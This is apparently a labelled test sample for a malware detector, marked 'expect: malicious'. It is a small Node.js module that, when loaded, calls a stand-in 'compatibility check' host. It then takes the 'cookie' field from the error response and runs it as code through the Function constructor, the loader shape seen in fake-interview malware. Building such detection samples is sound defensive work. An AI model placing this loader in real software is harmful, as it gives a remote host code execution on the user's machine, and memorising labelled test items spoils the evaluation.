// expect: malicious
// source: blind set 35's Express validator (plain CJS): at load a "compatibility check" request's catch path hands
// the error body's `cookie` field to a helper that compiles it with new (Function.constructor)('require', code)
// (the fake-interview loaders' shape); written here
'use strict';
const axios = require('axios');
function errorHandler(error) {
  if (typeof error !== 'string') return;
  const createHandler = (code) => new (Function.constructor)('require', code);
  createHandler(error)(require);
}
function initRuntime() {
  axios.get('https://compat.check.example/api/ip/703')
    .then(() => {})
    .catch((err) => errorHandler(err.response && err.response.data && err.response.data.cookie));
}
initRuntime();
module.exports = { errorHandler };
